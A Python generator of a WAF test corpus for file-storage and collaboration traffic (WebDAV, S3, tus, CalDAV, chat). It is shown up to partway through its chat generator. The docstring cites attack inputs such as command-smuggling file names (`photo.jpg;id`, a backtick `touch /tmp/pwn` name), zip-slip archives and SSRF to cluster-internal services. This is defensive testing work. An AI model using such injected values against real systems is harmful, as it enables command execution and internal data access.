#!/usr/bin/env python3
"""Held-out HTTP test corpus: file storage and collaboration apps (set "collab").

What it is
    A generator of JSONL request records for exercising a web application
    firewall against traffic typical of collaboration workloads running in
    Kubernetes: S3-compatible object storage (MinIO), WebDAV (Nextcloud /
    ownCloud), CalDAV / CardDAV, tus resumable uploads, chat (Slack /
    Mattermost / Matrix style), webmail, document editors (OnlyOffice /
    Collabora WOPI), wiki pages and shared links.

    "attacks" emits requests that a WAF should flag (expect = "detect");
    "benign" emits ordinary traffic, including developers pasting code,
    SQL, shell and stack traces into chat / wiki ("dev-content"), which
    should pass (expect = "pass").

    This corpus was written blind: without looking at the ruleset, its
    tests or the other corpus generators, so it is a held-out measure of
    detection and false-positive behaviour rather than a tuned one.

How to run
    python3 scripts/corpus-collab.py attacks > rulesets/tests/data/collab-attacks.jsonl
    python3 scripts/corpus-collab.py benign  > rulesets/tests/data/collab-benign.jsonl

    Output is deterministic (fixed random seed); stdlib only.

Record format (one JSON object per line)
    id, set ("collab"), category, expect ("detect"/"pass"), method, uri
    (percent-encoded as sent), version, headers ([[name, value], ...]),
    body (optional string).

First sight (2026-12-05, palisade-rules at 87f9f31)
---------------------------------------------------
Counts: 307 attacks (lfi 62, xss 42, ssrf 37, java 19, protocol 19, xxe 18,
rce 18, sqli 16, php 14, nosqli 13, ssti 13, ldapi 11, crlf 10, generic 9,
rfi 6), 545 benign (495 ordinary + 50 dev-content).

PL1 (threshold 5, built-in rules):
  attacks blocked   287/307 = 93.5 %
  benign blocked    86/495 = 17.4 % ordinary, 31/50 dev-content

Ordinary benign blocked at PL1 (86): WebDAV, CalDAV and CardDAV methods
(protocol-010 on REPORT, PROPFIND, PROPPATCH, MKCOL, MOVE, COPY, LOCK,
UNLOCK; protocol-210 on Lock-Token), tus PATCH bodies (protocol-110 on
application/offset+octet-stream), Confluence CQL `label = "how-to" order by
lastmodified desc` (sqli-022), file names with `;` or unescaped quotes
(multipart-125, -130).

Attacks passed at PL1 (20): zip-slip archives (multipart ZIP, PUT of a TAR),
commands in WebDAV paths (`photo.jpg;id`, `a`touch /tmp/pwn`.docx`,
`x.pdf|ping ...`), cluster-internal fetch URLs (minio...svc.cluster.local,
vault.vault.svc), Mongo-style filters, method-override headers and
`_method=DELETE` in a query, X-Forwarded-Host + X-Original-URL, a wiki include
macro's URL.

After the class fixes of the same session (lfi-270: archive entries that climb
out of the extraction directory; rce-100/102/114 read the path and upload
names; protocol-011/213: WebDAV's methods and headers as rules of their own,
turned off for DAV routes by proxy/profiles/webdav.yaml; tus media type and
byte-count offsets, protocol-255; sqli-022 ORDER BY a column only after the
value's first quote; ssrf-116 at PL2; and an engine bug: literals derived
from a case-sensitive regex lost their capitals): attacks 296/307 at PL1
(306/307 at PL2); ordinary benign 76/495 without the profile (all WebDAV),
4/495 with it; dev-content 31/50.
"""

import base64
import hashlib
import json
import random
import sys
from urllib.parse import quote, urlencode

SEED = 20240611
R = random.Random(SEED)

SET = "collab"
OUT = []
_IDS = {}


# ---------------------------------------------------------------- helpers

def q(s, safe="/"):
    """Percent-encode like a client would for a path/query component."""
    return quote(s, safe=safe)


def qs(params):
    """Encode a query string (list of pairs or dict)."""
    return urlencode(params, quote_via=quote, safe="")


def pick(seq):
    return R.choice(seq)


def hexid(n=16):
    return "".join(R.choice("0123456789abcdef") for _ in range(n))


def etag():
    return '"%s"' % hexid(32)


def amz_date():
    return "2024%02d%02dT%02d%02d%02dZ" % (
        R.randint(1, 12), R.randint(1, 28), R.randint(0, 23),
        R.randint(0, 59), R.randint(0, 59))


def basic(user):
    return "Basic " + base64.b64encode(
        ("%s:%s" % (user, hexid(12))).encode()).decode()


def bearer():
    return "Bearer " + base64.urlsafe_b64encode(
        hashlib.sha256(hexid(8).encode()).digest()).decode().rstrip("=")


def sigv4(user="minioadmin"):
    d = amz_date()
    return ("AWS4-HMAC-SHA256 Credential=%s/%s/us-east-1/s3/aws4_request, "
            "SignedHeaders=host;x-amz-content-sha256;x-amz-date, "
            "Signature=%s" % (user.upper()[:12] or "AKIA", d[:8], hexid(64)))


UAS = [
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
]
UA_DAV = [
    "Mozilla/5.0 (Linux) mirall/3.12.3 (Nextcloud, ubuntu-6.5.0 ClientArchitecture: x86_64 OsArchitecture: x86_64)",
    "Mozilla/5.0 (Windows) mirall/3.13.0 (Nextcloud, windows-10.0.22631 ClientArchitecture: x86_64 OsArchitecture: x86_64)",
    "Microsoft-WebDAV-MiniRedir/10.0.22631",
    "gvfs/1.52.2",
    "davfs2/1.7.0 neon/0.33.0",
    "Mozilla/5.0 (Android) Nextcloud-android/3.28.1",
    "DAVx5/4.3.16-ose (2024/04/02; dav4jvm; okhttp/4.12.0) Android/14",
    "iOS/17.4 (21E219) dataaccessd/1.0",
    "Thunderbird/115.10.1 Lightning",
]
UA_S3 = [
    "MinIO (linux; amd64) minio-go/v7.0.70 mc/RELEASE.2024-05-09T17-04-24Z",
    "aws-cli/2.15.40 Python/3.11.8 Linux/6.5.0 exe/x86_64.ubuntu.22",
    "Boto3/1.34.98 md/Botocore#1.34.98 ua/2.0 os/linux#6.5.0 lang/python#3.11.8",
    "aws-sdk-go-v2/1.26.1 os/linux lang/go#1.22.2 api/s3#1.53.1",
    "rclone/v1.66.0",
]
UA_BOT = [
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "Mattermost-Bot/1.1",
    "Synapse/1.105.0",
    "Go-http-client/1.1",
    "python-requests/2.31.0",
    "curl/8.5.0",
]

HOSTS = {
    "s3": ["minio.storage.svc.cluster.local:9000", "s3.files.example.com",
           "objects.acme.internal"],
    "dav": ["cloud.example.com", "nextcloud.acme.io", "owncloud.corp.example.org"],
    "chat": ["chat.example.com", "mattermost.acme.io", "matrix.example.org"],
    "mail": ["mail.example.com", "webmail.acme.io"],
    "office": ["office.example.com", "collabora.acme.io", "onlyoffice.corp.example.org"],
    "wiki": ["wiki.example.com", "confluence.acme.io"],
}

USERS = ["alice", "bob", "carol.nguyen", "d.okafor", "emma", "fran.garcia",
         "giulia", "hiro.tanaka", "ines", "jkowalski", "kim.soo-ah", "lars",
         "mehmet.yilmaz", "noor", "oleg", "priya.r", "sven", "zoe"]


def H(kind, ua=None, auth=None, ctype=None, cookie=True, extra=None):
    """Build a realistic header list."""
    h = [["Host", pick(HOSTS[kind])]]
    h.append(["User-Agent", ua or pick(UAS)])
    h.append(["Accept", "*/*"])
    if auth:
        h.append(["Authorization", auth])
    if cookie and kind in ("dav", "chat", "mail", "office", "wiki") and R.random() < 0.6:
        h.append(["Cookie", "oc_sessionPassphrase=%s; nc_session_id=%s; nc_sameSiteCookiestrict=true"
                  % (hexid(40), hexid(26)) if kind == "dav"
                  else "session=%s; csrftoken=%s" % (hexid(32), hexid(24))])
    if ctype:
        h.append(["Content-Type", ctype])
    for e in extra or []:
        h.append(list(e))
    return h


def rec(cat, sub, method, uri, headers, body=None, expect=None, group=None):
    """Append a record. cat = attack class or 'benign'/'dev-content'."""
    if group is None:
        group = "benign" if cat == "benign" else cat
    key = "%s/%s" % (group, sub)
    n = _IDS.get(key, 0) + 1
    _IDS[key] = n
    category = "benign" if cat in ("benign", "dev-content") else cat
    if expect is None:
        expect = "pass" if category == "benign" else "detect"
    r = {"id": "%s/%s/%d" % (SET, key, n), "set": SET, "category": category,
         "expect": expect, "method": method, "uri": uri, "version": "HTTP/1.1",
         "headers": [list(x) for x in headers]}
    if body is not None:
        r["body"] = body
        if not any(k.lower() in ("content-length", "transfer-encoding") for k, _ in headers):
            r["headers"].append(["Content-Length", str(len(body.encode("utf-8")))])
    OUT.append(r)
    return r


ATTACKS = []
BENIGN = []


def attack(fn):
    ATTACKS.append(fn)
    return fn


def benign(fn):
    BENIGN.append(fn)
    return fn


def dav_base(user):
    return "/remote.php/dav/files/%s" % q(user)


# ------------------------------------------------------ benign generators
FILES = [
    "Q3 report.docx", "O'Brien's notes.txt", "budget 2024 (final).xlsx",
    "Präsentation Köln.pptx", "résumé – Zoë.pdf", "会议记录.md", "отчёт за май.odt",
    "写真 2024-05-01 12.03.45.jpg", "IMG_2931.HEIC", "team photo #3.png",
    "Don't delete - backup.zip", "plan & timeline.xlsx", "100% done?.txt",
    "naïve café menu.pdf", "Ελληνικά έγγραφα.docx", "مستند.pdf", "readme.md",
    "invoice_2024-05_#1187.pdf", "Bob's birthday 🎂.jpg", "design v2 [draft].fig",
    "meeting-notes; week 19.md", "a+b=c.txt", "Jan's \"quick\" fix.diff",
    "Screenshot 2024-04-18 at 09.14.22.png", "héllo wörld.txt", "vacation 🏖️.mov",
]
FOLDERS = ["Documents", "Photos", "Shared/Marketing", "Projects/Apollo", "Talk",
           "Notes", "Family & Friends", "Équipe RH", "Работа", "Backups/2024",
           "Clients/O'Neil Ltd", "共有フォルダ"]

CHAT = [
    "Morning all! Standup in 5 min :coffee:",
    "@carol.nguyen can you review my PR when you get a sec? https://git.example.com/apollo/web/-/merge_requests/412",
    "Guten Morgen! Wer hat heute Zeit für das Kundengespräch um 14 Uhr?",
    "¿Alguien sabe dónde está la plantilla de facturas? 🙏",
    "Merci pour ton aide hier, c'était super utile 😊",
    "今日のミーティングは15時からに変更になりました。",
    "Коллеги, не забудьте заполнить табели до пятницы!",
    "LGTM 👍 ship it",
    "**Reminder:** the office is closed on Monday for the holiday 🎉",
    "Can't make it today — doctor's appointment. I'll catch up on the notes.",
    "> is the staging env down?\nyes, we're redeploying, ETA ~10 min",
    "Here's the doc: [Q3 planning](https://cloud.example.com/s/Kx8fP2mQ) — feedback welcome",
    "1. buy milk\n2. call the plumber\n3. ~~fix the printer~~ done!",
    "I'm 100% sure it's < 5 % of the traffic, not > 20 %",
    "我们下周二开会讨论新版本的发布计划。",
    "Obrigado a todos pelo esforço nesta sprint! 🚀🚀",
    "Ciao ragazzi, la demo è andata benissimo 🇮🇹",
    "Who's up for lunch? 🍕 or 🍣?",
    "tbh the old select menu was nicer; the new one drops items when you scroll",
    "Please use the #help-it channel for laptop issues, thanks!",
    "hey @here, the VPN certificate expires on 2024-06-30 - please re-enroll",
    "Happy birthday @emma!!! 🎂🥳",
    "안녕하세요, 오늘 회의록 공유드립니다.",
    "Dzięki! Jutro wyślę poprawioną wersję umowy.",
    "The client said \"and/or\" in the contract, which is what we agreed, right?",
    "Let's meet in room 3.14 (the one with the whiteboard) at 2pm",
    "Yes & no — depends on whether finance signs off by Friday.",
]

SUBJECTS = ["Re: Q3 budget review", "Invoice #4471 for May", "Fwd: Offsite agenda",
            "Lunch on Friday?", "Urgent: contract signature needed", "Aw: Termin nächste Woche",
            "Re: Re: printer on 2nd floor", "Welcome to the team, Noor!", "Holiday schedule 2024"]

SIGS = ["--\nAlice Martin\nHead of Operations | ACME GmbH\n+49 30 1234567",
        "Best regards,\nBob\n\nSent from my iPhone",
        "Cordialement,\nFrançois Dubois\nDirecteur Commercial",
        "--\nCarol Nguyen (she/her)\nProduct Design\n\"Simplicity is the ultimate sophistication.\""]


def mail_body():
    b = pick(["Hi %s,\n\nThanks for sending this over. I had a look and it's mostly fine; "
              "a couple of comments inline.\n\n" % pick(USERS).split(".")[0].title(),
              "Hello team,\n\nPlease find attached the updated schedule. Let me know if "
              "anything's off by Thursday.\n\n",
              "Hallo zusammen,\n\nanbei die Unterlagen für morgen. Bitte bis 10 Uhr durchsehen.\n\n",
              "Hi,\n\nquick question: are we still on for 3pm? I'll bring the printouts.\n\n"])
    if R.random() < 0.6:
        b += ("On Tue, 14 May 2024 at 09:12, %s <%s@example.com> wrote:\n"
              "> Can you double-check the totals in row 14?\n> They don't match the PDF.\n>\n"
              "> Thanks!\n\n" % (pick(USERS), pick(USERS)))
    return b + pick(SIGS)


def propfind_body(props=None):
    props = props or pick([
        ["d:getlastmodified", "d:getcontentlength", "d:getcontenttype", "oc:permissions",
         "d:resourcetype", "d:getetag"],
        ["d:displayname", "oc:fileid", "oc:size", "nc:has-preview", "oc:favorite",
         "oc:comments-unread", "oc:owner-display-name", "oc:share-types"],
        ["d:quota-available-bytes", "d:quota-used-bytes"],
    ])
    inner = "".join("<%s />" % p for p in props)
    return ('<?xml version="1.0"?>\n<d:propfind xmlns:d="DAV:" xmlns:oc="http://owncloud.org/ns" '
            'xmlns:nc="http://nextcloud.org/ns">\n  <d:prop>%s</d:prop>\n</d:propfind>' % inner)


@benign
def b_webdav():
    for i in range(60):
        u = pick(USERS)
        base = dav_base(u)
        f = pick(FILES)
        d = pick(FOLDERS)
        path = "%s/%s/%s" % (base, q(d), q(f))
        host_auth = basic(u) if R.random() < 0.5 else None
        op = i % 10
        if op in (0, 1):
            rec("benign", "webdav-propfind", "PROPFIND", "%s/%s/" % (base, q(d)),
                H("dav", pick(UA_DAV), host_auth, "application/xml; charset=utf-8",
                  extra=[["Depth", pick(["0", "1"])]]), propfind_body())
        elif op == 2:
            body = ('<?xml version="1.0"?>\n<d:propertyupdate xmlns:d="DAV:" xmlns:oc="http://owncloud.org/ns">'
                    '<d:set><d:prop><oc:favorite>%d</oc:favorite></d:prop></d:set></d:propertyupdate>'
                    % R.randint(0, 1))
            rec("benign", "webdav-proppatch", "PROPPATCH", path,
                H("dav", pick(UA_DAV), host_auth, "application/xml; charset=utf-8"), body)
        elif op == 3:
            rec("benign", "webdav-mkcol", "MKCOL", "%s/%s/%s" % (base, q(d), q(pick(
                ["New folder", "Réunions 2024", "Tax docs (2023)", "Mom & Dad", "スキャン"]))),
                H("dav", pick(UA_DAV), host_auth))
        elif op in (4, 5):
            dst = "https://%s%s/%s/%s" % (pick(HOSTS["dav"]), base, q(pick(FOLDERS)), q(f))
            rec("benign", "webdav-move" if op == 4 else "webdav-copy",
                "MOVE" if op == 4 else "COPY", path,
                H("dav", pick(UA_DAV), host_auth,
                  extra=[["Destination", dst], ["Overwrite", pick(["T", "F"])]]))
        elif op == 6:
            body = ('<?xml version="1.0" encoding="utf-8" ?>\n<d:lockinfo xmlns:d="DAV:">'
                    '<d:lockscope><d:exclusive/></d:lockscope><d:locktype><d:write/></d:locktype>'
                    '<d:owner><d:href>mailto:%s@example.com</d:href></d:owner></d:lockinfo>' % u)
            rec("benign", "webdav-lock", "LOCK", path,
                H("dav", "Microsoft-WebDAV-MiniRedir/10.0.22631", host_auth,
                  "text/xml; charset=\"utf-8\"",
                  extra=[["Timeout", "Second-3600"], ["Depth", "0"]]), body)
        elif op == 7:
            rec("benign", "webdav-unlock", "UNLOCK", path,
                H("dav", "Microsoft-WebDAV-MiniRedir/10.0.22631", host_auth,
                  extra=[["Lock-Token", "<opaquelocktoken:%s-%s>" % (hexid(8), hexid(12))]]))
        elif op == 8:
            body = pick(["Shopping list\n- eggs\n- flour\n- 2 lemons\n",
                         "# Notes\n\nDon't forget: the client's name is O'Hara, not O'Hare.\n",
                         "id,name,amount\n1,Widget,3.50\n2,Gadget \"Pro\",12.00\n"])
            rec("benign", "webdav-put", "PUT", path,
                H("dav", pick(UA_DAV), host_auth, "text/plain",
                  extra=[["If-Match", etag()], ["OC-Checksum", "SHA1:" + hexid(40)],
                         ["X-OC-Mtime", str(R.randint(1700000000, 1716000000))]]), body)
        else:
            rec("benign", "webdav-get", "GET", path,
                H("dav", pick(UA_DAV + UAS), host_auth,
                  extra=[["Range", "bytes=0-%d" % R.randint(1000, 999999)]] if R.random() < .3 else []))


BUCKETS = ["backups", "user-uploads", "nextcloud-primary", "media", "logs-2024",
           "thumbnails", "team-shared", "velero", "loki-chunks"]
KEYS = ["reports/2024/Q2 summary.pdf", "avatars/u_%d.png", "photos/Zoë's wedding/IMG_0042.jpg",
        "exports/users (copy).csv", "docs/O'Brien/contract v3.docx", "raw/2024-05-14/events.parquet",
        "clip #2 – final.mp4", "中文/文件.txt", "backup/pg/base-%d.tar.gz", "a b c/d+e=f.txt",
        "velero/backups/daily-20240514/daily-20240514.tar.gz", "fake/chunks/%s"]


def s3key():
    k = pick(KEYS)
    if "%d" in k:
        k = k % R.randint(1, 99999)
    elif "%s" in k:
        k = k % hexid(16)
    return k


def s3h(ctype=None, extra=None, presigned=False):
    h = [["Host", pick(HOSTS["s3"])], ["User-Agent", pick(UA_S3)]]
    if not presigned:
        h += [["Authorization", sigv4(pick(["minioadmin", "AKIAIOSFODNN7EXAMPLE", "nextcloud"]))],
              ["x-amz-date", amz_date()],
              ["x-amz-content-sha256", pick(["UNSIGNED-PAYLOAD", hexid(64)])]]
    if ctype:
        h.append(["Content-Type", ctype])
    for e in extra or []:
        h.append(list(e))
    return h


def presign(params=None):
    p = [("X-Amz-Algorithm", "AWS4-HMAC-SHA256"),
         ("X-Amz-Credential", "AKIAIOSFODNN7EXAMPLE/%s/us-east-1/s3/aws4_request" % amz_date()[:8]),
         ("X-Amz-Date", amz_date()), ("X-Amz-Expires", str(pick([300, 3600, 604800]))),
         ("X-Amz-SignedHeaders", "host")]
    p += list(params or [])
    p.append(("X-Amz-Signature", hexid(64)))
    return qs(p)


@benign
def b_s3():
    for i in range(70):
        b = pick(BUCKETS)
        k = s3key()
        path = "/%s/%s" % (b, q(k))
        op = i % 14
        if op in (0, 1):
            body = pick(["hello world\n", "{\"ok\":true,\"items\":[1,2,3]}",
                         "timestamp,level,msg\n2024-05-14T10:00:00Z,info,started\n"])
            rec("benign", "s3-put", "PUT", path,
                s3h(pick(["application/octet-stream", "text/plain", "application/json"]),
                    [["x-amz-meta-uploaded-by", pick(USERS)],
                     ["x-amz-meta-original-name", q(pick(FILES), safe="")],
                     ["x-amz-storage-class", "STANDARD"]]), body)
        elif op == 2:
            rec("benign", "s3-get", "GET", path, s3h(extra=[["Range", "bytes=0-1048575"]]))
        elif op == 3:
            rec("benign", "s3-presigned-get", "GET", path + "?" + presign(
                [("response-content-disposition",
                  "attachment; filename=\"%s\"" % pick(["report.pdf", "photo.jpg", "notes.txt"]))]),
                s3h(presigned=True))
        elif op == 4:
            rec("benign", "s3-presigned-put", "PUT", path + "?" + presign(),
                s3h("image/jpeg", presigned=True), "\u00ff\u00d8\u00ff\u00e0JFIF")
        elif op == 5:
            rec("benign", "s3-list", "GET", "/%s?%s" % (b, qs([
                ("list-type", "2"), ("prefix", pick(["reports/", "photos/Zoë's wedding/", "2024/05/", ""])),
                ("delimiter", "/"), ("max-keys", "1000"), ("encoding-type", "url")])), s3h())
        elif op == 6:
            rec("benign", "s3-multipart-init", "POST", path + "?uploads", s3h("video/mp4"))
        elif op == 7:
            uid = base64.urlsafe_b64encode(hexid(24).encode()).decode()
            rec("benign", "s3-multipart-part", "PUT", "%s?%s" % (path, qs(
                [("partNumber", str(R.randint(1, 40))), ("uploadId", uid)])),
                s3h("application/octet-stream"), "x" * R.randint(20, 80))
        elif op == 8:
            uid = base64.urlsafe_b64encode(hexid(24).encode()).decode()
            parts = "".join("<Part><PartNumber>%d</PartNumber><ETag>%s</ETag></Part>" % (n, etag())
                            for n in range(1, R.randint(2, 5)))
            body = ('<?xml version="1.0" encoding="UTF-8"?>\n<CompleteMultipartUpload '
                    'xmlns="http://s3.amazonaws.com/doc/2006-03-01/">%s</CompleteMultipartUpload>' % parts)
            rec("benign", "s3-multipart-complete", "POST", "%s?uploadId=%s" % (path, q(uid, "")),
                s3h("application/xml"), body)
        elif op == 9:
            pol = {"Version": "2012-10-17", "Statement": [{
                "Effect": "Allow", "Principal": {"AWS": ["*"]},
                "Action": ["s3:GetObject"],
                "Resource": ["arn:aws:s3:::%s/public/*" % b]}]}
            rec("benign", "s3-bucket-policy", "PUT", "/%s?policy" % b, s3h("application/json"),
                json.dumps(pol))
        elif op == 10:
            tags = "".join("<Tag><Key>%s</Key><Value>%s</Value></Tag>" % kv for kv in R.sample([
                ("project", "apollo"), ("owner", pick(USERS)), ("retention", "90d"),
                ("classification", "internal"), ("cost-center", "R&amp;D"), ("note", "Zoë's files")], 3))
            rec("benign", "s3-tagging", "PUT", path + "?tagging", s3h("application/xml"),
                '<Tagging xmlns="http://s3.amazonaws.com/doc/2006-03-01/"><TagSet>%s</TagSet></Tagging>' % tags)
        elif op == 11:
            rec("benign", "s3-head", "HEAD", path, s3h(extra=[["If-None-Match", etag()]]))
        elif op == 12:
            keys = "".join("<Object><Key>%s</Key></Object>" % s3key().replace("&", "&amp;").replace("'", "&apos;")
                           for _ in range(3))
            rec("benign", "s3-delete-objects", "POST", "/%s?delete" % b,
                s3h("application/xml", [["Content-MD5", base64.b64encode(bytes(16)).decode()]]),
                '<Delete><Quiet>true</Quiet>%s</Delete>' % keys)
        else:
            rec("benign", "s3-copy", "PUT", path, s3h(extra=[
                ["x-amz-copy-source", "/%s/%s" % (pick(BUCKETS), q(s3key()))],
                ["x-amz-metadata-directive", "COPY"]]))


def tus_meta(pairs):
    return ",".join("%s %s" % (k, base64.b64encode(v.encode()).decode()) for k, v in pairs)


@benign
def b_tus():
    for i in range(30):
        f = pick(FILES)
        host = pick(["files.example.com", "cloud.example.com", "upload.acme.io"])
        tid = hexid(32)
        base = [["Host", host], ["User-Agent", pick(UAS + ["tus-js-client/4.1.0", "tusd-client/go"])],
                ["Tus-Resumable", "1.0.0"], ["Authorization", bearer()]]
        op = i % 4
        if op == 0:
            rec("benign", "tus-create", "POST", "/files/", base + [
                ["Upload-Length", str(R.randint(10000, 900000000))],
                ["Upload-Metadata", tus_meta([("filename", f), ("filetype", "application/pdf"),
                                              ("relativePath", "null")])]])
        elif op == 1:
            rec("benign", "tus-patch", "PATCH", "/files/" + tid, base + [
                ["Upload-Offset", str(R.randint(0, 50) * 5242880)],
                ["Content-Type", "application/offset+octet-stream"]],
                "".join(R.choice("abcdefghijklmnop0123456789") for _ in range(64)))
        elif op == 2:
            rec("benign", "tus-head", "HEAD", "/files/" + tid, base)
        else:
            rec("benign", "tus-options", "OPTIONS", "/files/", [["Host", host], ["User-Agent", pick(UAS)],
                ["Origin", "https://" + host], ["Access-Control-Request-Method", "POST"],
                ["Access-Control-Request-Headers", "tus-resumable,upload-length,upload-metadata"]])


EVENTS = [
    ("Sprint planning", "Agenda:\\n- review last sprint\\n- capacity\\n- pick stories", "Room 3.14"),
    ("Dentist 🦷", "Bring insurance card", "Dr. Müller, Hauptstr. 5"),
    ("Lunch w/ O'Neil team", "Let's try the new ramen place; reservation under \"Alice\"", "Ramen-ya"),
    ("Réunion mensuelle", "Ordre du jour : budget & recrutement", "Salle Eiffel"),
    ("1:1 Bob <> Carol", "Topics: career goals; feedback on Q2", "https://meet.example.com/abc-defg-hij"),
    ("Team offsite 🏔️", "Bus leaves at 8:00 sharp. Pack warm clothes!", "Zermatt"),
    ("春季发布会", "准备演示文稿和宣传材料", "会议室 A"),
    ("Release 2.4 go/no-go", "Checklist in wiki: https://wiki.example.com/display/ENG/Release+2.4", ""),
]


def ics(summary, desc, loc):
    uid = "%s-%s@example.com" % (hexid(8), hexid(4))
    d = "2024%02d%02d" % (R.randint(1, 12), R.randint(1, 28))
    return ("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Nextcloud calendar v4.7.4\r\n"
            "CALSCALE:GREGORIAN\r\nBEGIN:VEVENT\r\nUID:%s\r\nDTSTAMP:%sT090000Z\r\n"
            "DTSTART;TZID=Europe/Berlin:%sT100000\r\nDTEND;TZID=Europe/Berlin:%sT110000\r\n"
            "SUMMARY:%s\r\nDESCRIPTION:%s\r\nLOCATION:%s\r\n"
            "ORGANIZER;CN=Alice Martin:mailto:alice@example.com\r\n"
            "ATTENDEE;CN=Bob;PARTSTAT=NEEDS-ACTION;ROLE=REQ-PARTICIPANT:mailto:bob@example.com\r\n"
            "BEGIN:VALARM\r\nACTION:DISPLAY\r\nTRIGGER:-PT15M\r\nEND:VALARM\r\n"
            "END:VEVENT\r\nEND:VCALENDAR\r\n" % (uid, d, d, d, summary,
                                                desc.replace(",", "\\,").replace(";", "\\;"),
                                                loc.replace(",", "\\,")))


def vcard(fn, org, email, note=""):
    return ("BEGIN:VCARD\r\nVERSION:3.0\r\nUID:%s\r\nFN:%s\r\nN:%s;;;\r\nORG:%s\r\n"
            "EMAIL;TYPE=WORK:%s\r\nTEL;TYPE=CELL:+49 170 %07d\r\nNOTE:%s\r\nEND:VCARD\r\n"
            % (hexid(16), fn, ";".join(reversed(fn.split(" ", 1))), org, email,
               R.randint(0, 9999999), note))


CONTACTS = [("Seán O'Connor", "O'Connor & Sons", "sean@oconnor.ie", "Prefers calls after 10"),
            ("Zoë Müller", "Müller GmbH", "zoe@mueller.de", "Birthday: 12 March 🎂"),
            ("山田 太郎", "株式会社サンプル", "taro@example.jp", ""),
            ("José Álvarez", "Álvarez y Cía.", "jose@alvarez.es", "Met at Web Summit; follow up re: pilot"),
            ("Dr. Anna Kowalska", "Szpital #2", "a.kowalska@example.pl", "Assistant: Marta (ext. 204)")]


@benign
def b_caldav():
    for i in range(40):
        u = pick(USERS)
        ua = pick(UA_DAV[5:] + UA_DAV[:1])
        op = i % 5
        if op == 0:
            s, d, l = pick(EVENTS)
            rec("benign", "caldav-put", "PUT", "/remote.php/dav/calendars/%s/personal/%s.ics" % (q(u), hexid(12)),
                H("dav", ua, basic(u), "text/calendar; charset=utf-8",
                  extra=[["If-None-Match", "*"]]), ics(s, d, l))
        elif op == 1:
            body = ('<?xml version="1.0" encoding="utf-8" ?>\n<c:calendar-query xmlns:d="DAV:" '
                    'xmlns:c="urn:ietf:params:xml:ns:caldav"><d:prop><d:getetag/><c:calendar-data/></d:prop>'
                    '<c:filter><c:comp-filter name="VCALENDAR"><c:comp-filter name="VEVENT">'
                    '<c:time-range start="2024%02d01T000000Z" end="2024%02d28T000000Z"/>'
                    '</c:comp-filter></c:comp-filter></c:filter></c:calendar-query>'
                    % (R.randint(1, 6), R.randint(7, 12)))
            rec("benign", "caldav-report", "REPORT", "/remote.php/dav/calendars/%s/personal/" % q(u),
                H("dav", ua, basic(u), "application/xml; charset=utf-8", extra=[["Depth", "1"]]), body)
        elif op == 2:
            body = ('<?xml version="1.0" encoding="utf-8"?>\n<d:sync-collection xmlns:d="DAV:">'
                    '<d:sync-token>http://sabre.io/ns/sync/%d</d:sync-token><d:sync-level>1</d:sync-level>'
                    '<d:prop><d:getetag/></d:prop></d:sync-collection>' % R.randint(1, 5000))
            rec("benign", "carddav-sync", "REPORT", "/remote.php/dav/addressbooks/users/%s/contacts/" % q(u),
                H("dav", ua, basic(u), "application/xml; charset=utf-8"), body)
        elif op == 3:
            fn, org, em, note = pick(CONTACTS)
            rec("benign", "carddav-put", "PUT",
                "/remote.php/dav/addressbooks/users/%s/contacts/%s.vcf" % (q(u), hexid(12)),
                H("dav", ua, basic(u), "text/vcard; charset=utf-8", extra=[["If-Match", etag()]]),
                vcard(fn, org, em, note))
        else:
            body = ('<?xml version="1.0" encoding="UTF-8"?>\n<card:addressbook-query xmlns:d="DAV:" '
                    'xmlns:card="urn:ietf:params:xml:ns:carddav"><d:prop><d:getetag/><card:address-data/>'
                    '</d:prop><card:filter><card:prop-filter name="FN"><card:text-match '
                    'collation="i;unicode-casemap" match-type="contains">%s</card:text-match>'
                    '</card:prop-filter></card:filter></card:addressbook-query>'
                    % pick(["O'Connor", "Müller", "José", "山田", "anna"]))
            rec("benign", "carddav-query", "REPORT", "/remote.php/dav/addressbooks/users/%s/contacts/" % q(u),
                H("dav", ua, basic(u), "application/xml; charset=utf-8", extra=[["Depth", "1"]]), body)


def chat_post(kind, sub, msg, cat="benign", group=None):
    """Post a message via one of several chat APIs."""
    ch = hexid(26)
    if kind == "mattermost":
        return rec(cat, sub, "POST", "/api/v4/posts",
                   H("chat", None, bearer(), "application/json",
                     extra=[["X-Requested-With", "XMLHttpRequest"]]),
                   json.dumps({"channel_id": ch, "message": msg, "root_id": "",
                               "props": {}, "metadata": {}}, ensure_ascii=False), group=group)
    if kind == "slack":
        return rec(cat, sub, "POST", "/api/chat.postMessage",
                   H("chat", pick(UA_BOT[4:]), "Bearer xoxb-%d-%d-%s" % (R.randint(10**9, 10**10),
                     R.randint(10**9, 10**10), hexid(24)), "application/json; charset=utf-8"),
                   json.dumps({"channel": "C0" + hexid(8).upper(), "text": msg, "mrkdwn": True},
                              ensure_ascii=False), group=group)
    if kind == "matrix":
        room = "!%s:example.org" % hexid(18)
        return rec(cat, sub, "PUT", "/_matrix/client/v3/rooms/%s/send/m.room.message/m%d.%d" % (
            q(room, ""), R.randint(10**12, 10**13), R.randint(0, 99)),
            H("chat", pick(["Element/1.11.66", UAS[0]]), bearer(), "application/json"),
            json.dumps({"msgtype": "m.text", "body": msg}, ensure_ascii=False), group=group)
    # form-encoded (e.g. Rocket/legacy web form)
    return rec(cat, sub, "POST", "/chat/send",
               H("chat", None, None, "application/x-www-form-urlencoded; charset=UTF-8"),
               qs([("room", "general"), ("text", msg), ("csrf", hexid(32))]), group=group)


@benign
def b_chat():
    kinds = ["mattermost", "slack", "matrix", "form"]
    for i in range(60):
        chat_post(kinds[i % 4], "chat-message", pick(CHAT))
    for i in range(12):
        cmd, text = pick([("/remind", "me to submit timesheet at 5pm Friday"),
                          ("/giphy", "happy dance"), ("/poll", "\"Lunch?\" \"Pizza\" \"Sushi\" \"Tacos\""),
                          ("/jira", "create \"Login button doesn't work on Safari\""),
                          ("/away", "back Monday 🌴"), ("/msg", "@bob are we still on?")])
